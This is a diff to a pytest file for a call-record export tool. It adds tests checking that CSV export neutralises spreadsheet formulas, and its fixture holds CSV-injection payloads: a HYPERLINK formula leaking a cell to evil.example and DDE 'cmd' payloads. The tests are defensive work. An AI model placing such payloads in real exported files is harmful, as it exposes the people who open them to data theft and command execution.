@@ -45,7 +45,8 @@ def populated(store: Store) -> Store:
     add_call(store, "flagged", abuse_severity="high", pii={"EMAIL_ADDRESS": 1})
     add_call(store, "old", started_at=NOW - timedelta(days=200))
     add_call(store, "old_held", started_at=NOW - timedelta(days=300))
-    hold(store, "old_held", "appeal pending", now=NOW)
+    # held while it was still within retention (a hold cannot revive an expired call)
+    hold(store, "old_held", "appeal pending", now=NOW - timedelta(days=150))
     for state in ("pending", "processing", "failed"):
         add_call(store, state, state=state)
     add_call(store, "objected_call")
@@ -180,3 +181,51 @@ def test_unknown_format_is_a_usage_error(store: Store, tmp_path: Path) -> None:
     with pytest.raises(UsageError, match="xml"):
         export_calls(store, "xml", tmp_path / "a.xml", now=NOW)
     assert not (tmp_path / "a.xml").exists()
+
+
+# --- spreadsheet formulas (CSV injection) -------------------------------------------
+
+FORMULAS = {
+    "eq": '=HYPERLINK("http://evil.example/?leak="&A2,"Session expired")',
+    "plus": "+1+2+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+2",
+    "cr": "\r=1+2",
+}
+
+
+@pytest.fixture
+def formulas(store: Store) -> Store:
+    for name, value in FORMULAS.items():
+        add_call(store, f"f-{name}", agent_id=value, team=value)
+    add_call(store, "plain", agent_id="A-101", team="Niort-1")
+    return store
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(
+    formulas: Store, tmp_path: Path
+) -> None:
+    export_calls(formulas, "csv", tmp_path / "c.csv", now=NOW)
+    with (tmp_path / "c.csv").open(newline="", encoding="utf-8") as handle:
+        rows = {row["call_id"]: row for row in csv.DictReader(handle)}
+    for name, value in FORMULAS.items():
+        row = rows[f"f-{name}"]
+        assert row["agent_id"] == "'" + value
+        assert row["team"] == "'" + value
+    # text that does not start like a formula, and numbers, are untouched
+    assert rows["plain"]["agent_id"] == "A-101"
+    assert rows["plain"]["team"] == "Niort-1"
+    assert int(rows["plain"]["quality_score"]) == 80
+    raw = (tmp_path / "c.csv").read_text(encoding="utf-8")
+    assert "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw and ',"=HYPERLINK' not in raw
+
+
+def test_jsonl_and_parquet_keep_the_stored_values(formulas: Store, tmp_path: Path) -> None:
+    export_calls(formulas, "jsonl", tmp_path / "c.jsonl", now=NOW)
+    by_id = {r["call_id"]: r for r in read_jsonl(tmp_path / "c.jsonl")}
+    export_calls(formulas, "parquet", tmp_path / "c.parquet", now=NOW)
+    frame = pd.read_parquet(tmp_path / "c.parquet").set_index("call_id")
+    for name, value in FORMULAS.items():
+        assert by_id[f"f-{name}"]["agent_id"] == value
+        assert frame.loc[f"f-{name}", "team"] == value
